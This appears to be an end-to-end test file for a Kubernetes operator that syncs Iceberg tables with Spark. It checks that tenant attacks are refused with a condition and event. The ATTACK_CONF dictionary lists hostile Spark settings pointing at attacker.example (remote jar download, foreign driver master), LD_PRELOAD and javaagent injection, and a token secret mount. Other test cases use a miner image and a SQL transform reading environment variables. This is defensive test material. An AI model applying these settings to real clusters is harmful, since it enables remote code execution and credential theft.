"""Tenants against the operator's closed defaults, on the real API server with the real operator
(docs/security.md, attacks 10, 11, 14 and 16): with no policy flag set, a foreign image, a foreign
service account, a SQL transform, each Spark conf key that runs code, sends the token elsewhere or mounts a Secret,
sizes above the caps, a sink id of another namespace, and a table another sink writes each end
refused with a clear condition and one event, and nothing is launched."""

from __future__ import annotations

import pyarrow as pa

from icebergsync import protocol
from icebergsync.catalog import open_catalog
from icebergsync.spec import Catalog
from tests.e2e.conftest import Kube
from tests.e2e.test_operator import Lake, StartOperator, generator_spec

ATTACK_CONF = {
    "spark.kubernetes.driver.master": "https://attacker.example",
    "spark.driver.extraJavaOptions": "-javaagent:/tmp/agent.jar",
    "spark.jars": "https://attacker.example/x.jar",
    "spark.plugins": "com.attacker.Plugin",
    "spark.pyspark.driver.python": "/bin/sh",
    "spark.kubernetes.driverEnv.LD_PRELOAD": "/tmp/x.so",
    "spark.kubernetes.kerberos.tokenSecret.name": "admin-token",
}


def stalled_message(kube: Kube, name: str, reason: str) -> str:
    """Wait for Stalled=True with ``reason``; its message."""
    status = kube.wait_status(name, reason, lambda s: any(
        c["type"] == "Stalled" and c["status"] == "True" and c["reason"] == reason for c in s.get("conditions", [])))
    return str(next(c["message"] for c in status["conditions"] if c["type"] == "Stalled"))


def test_each_attack_on_the_closed_defaults_is_refused_with_a_condition_and_an_event(
        kube: Kube, start_operator: StartOperator, warehouse: Lake) -> None:
    cases = {
        "image": ({"image": "docker.io/attacker/miner:latest"}, "PolicyViolation",
                  ["spec.spark.image: 'docker.io/attacker/miner:latest' is not allowed"]),
        "account": ({"serviceAccount": "cluster-admin"}, "PolicyViolation",
                    ["spec.spark.serviceAccount: 'cluster-admin' is not allowed"]),
        "conf": ({"conf": ATTACK_CONF}, "PolicyViolation",
                 [f"spec.spark.conf: {key!r} is not among the allowed keys" for key in ATTACK_CONF]),
        "size": ({"executor": {"instances": 50}}, "PolicyViolation",
                 ["spec.spark.executor.instances: 50 is above the cap of 8 executors per sync"]),
    }
    for name, (spark, _, _) in cases.items():
        kube.create_sync(name, generator_spec(warehouse, spark=spark))
    kube.create_sync("foreign-sink", generator_spec(warehouse, sinkId="team-b/trips"))
    cases["foreign-sink"] = ({}, "InvalidSpec", [f"spec.sinkId: 'team-b/trips' is not a sink of namespace {kube.namespace}"])
    kube.create_sync("transform", generator_spec(
        warehouse, transform="SELECT java_method('java.lang.System', 'getenv', 'HOME') AS notes, * FROM source"))
    cases["transform"] = ({}, "PolicyViolation", ["spec.transform: SQL transforms are not allowed"])
    operator = start_operator()

    for name, (_, reason, texts) in cases.items():
        message = stalled_message(kube, name, reason)
        for text in texts:
            assert text in message, (name, message)
    operator.wait_reconciles(2 * len(cases))
    for name, (_, reason, _) in cases.items():
        assert kube.event_reasons(name) == [reason], name
    assert kube.applications() == {}


def test_a_sync_pointed_at_a_table_another_sink_writes_is_refused_before_launching(
        kube: Kube, start_operator: StartOperator, warehouse: Lake) -> None:
    catalog = open_catalog(Catalog(uri=warehouse["uri"], warehouse=warehouse["warehouse"]))
    catalog.create_namespace("db")
    rows = pa.table({"id": pa.array([1], pa.int64())})
    table = catalog.create_table("db.trips", rows.schema)
    other = protocol.Writer("team-b/trips", 3, "attempt")
    table.append(rows, snapshot_properties=protocol.CommitStatement(other, protocol.KIND_DATA, {"next_id": 1}).properties())
    kube.create_sync("trips", generator_spec(warehouse))
    operator = start_operator()

    message = stalled_message(kube, "trips", "TableInUse")
    assert f"table db.trips is written by sink team-b/trips, not {kube.namespace}/trips" in message
    operator.wait_reconciles(2)
    assert kube.event_reasons("trips") == ["TableInUse"]
    assert kube.applications() == {}
    assert len(catalog.load_table("db.trips").metadata.snapshots) == 1  # nothing written either


def test_a_sink_id_launches_qualified_by_the_syncs_own_namespace(
        kube: Kube, start_operator: StartOperator, warehouse: Lake) -> None:
    kube.create_sync("trips", generator_spec(warehouse, sinkId="trips-ledger"))
    start_operator()
    app = kube.wait_applications({"trips-v1"})["trips-v1"]
    assert app["metadata"]["annotations"]["icebergsync.io/sink-id"] == f"{kube.namespace}/trips-ledger"
